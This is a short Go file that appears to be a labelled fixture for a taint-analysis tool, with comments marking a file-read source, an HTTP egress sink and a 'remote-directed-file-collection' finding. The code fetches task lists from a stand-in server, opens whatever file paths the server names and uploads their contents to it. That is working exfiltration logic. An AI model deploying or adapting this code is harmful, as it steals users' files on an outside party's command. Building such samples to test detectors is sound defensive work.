// --- path: poll/poll.go ---
// The answer to a poll names files, which go back as parts of a form.
package poll

import (
	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
)

const server = "https://collector.example"

type task struct {
	ID    string   `json:"id"`
	Kind  string   `json:"kind"`
	Paths []string `json:"paths"`
}

func once(client *http.Client) error {
	answer, err := client.Get(server + "/tasks")
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	var tasks []task
	if err := json.NewDecoder(answer.Body).Decode(&tasks); err != nil {
		return err
	}
	for _, t := range tasks {
		if t.Kind == "get" {
			if err := answerTask(client, t); err != nil {
				return err
			}
		} else {
			report(client, t)
		}
	}
	return nil
}

func answerTask(client *http.Client, t task) error {
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	for _, path := range t.Paths {
		if err := add(form, path); err != nil {
			return err
		}
	}
	form.Close()
	_, err := client.Post(server+"/files", form.FormDataContentType(), &body) //~ sink(egress.http) f1, finding(remote-directed-file-collection, traced) f1
	return err
}

func add(form *multipart.Writer, path string) error {
	file, err := os.Open(path) //~ source(FILE) f1
	if err != nil {
		return err
	}
	defer file.Close()
	part, err := form.CreateFormFile("file", filepath.Base(path))
	if err != nil {
		return err
	}
	_, err = io.Copy(part, file)
	return err
}

// report tells how many files were asked for.
func report(client *http.Client, t task) {
	text, _ := json.Marshal(map[string]int{"asked": len(t.Paths)})
	client.Post(server+"/done", "application/json", bytes.NewReader(text)) //~ ok
}
